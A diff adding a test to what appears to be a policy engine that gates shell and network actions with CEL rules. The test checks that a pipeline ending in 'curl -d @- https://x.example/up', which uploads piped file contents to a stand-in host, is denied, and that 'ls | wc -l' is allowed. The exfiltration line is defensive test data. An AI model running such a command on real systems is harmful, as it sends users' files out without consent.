@@ -105,3 +105,23 @@ def test_cel_type_error_fails_closed():
     e = Engine.from_texts({"c.yaml": CEL})
     d = e.decide({"capability": "weird", "args": {"n": "not a number"}})
     assert d.decision.label == "deny" and d.error and "internal error" in d.reason
+
+
+def test_cel_sees_analysis_facts_and_derived_args():
+    text = """
+policy: cel-facts
+defaults: allow
+rules:
+  - id: many-programs
+    match: {capability: shell.exec}
+    when: 'size(facts.programs) > 2 && "curl" in facts.programs'
+    effect: require_approval
+  - id: derived-upload
+    match: {capability: network.request}
+    when: 'derived && facts.upload == true'
+    effect: deny
+"""
+    e = Engine.from_texts({"c.yaml": text})
+    d = e.decide({"capability": "shell.exec", "target": "cat a | grep b | curl -d @- https://x.example/up"})
+    assert d.decision.label == "deny" and {r.rule for r in d.rules} == {"many-programs", "derived-upload"}
+    assert e.decide({"capability": "shell.exec", "target": "ls | wc -l"}).decision.label == "allow"
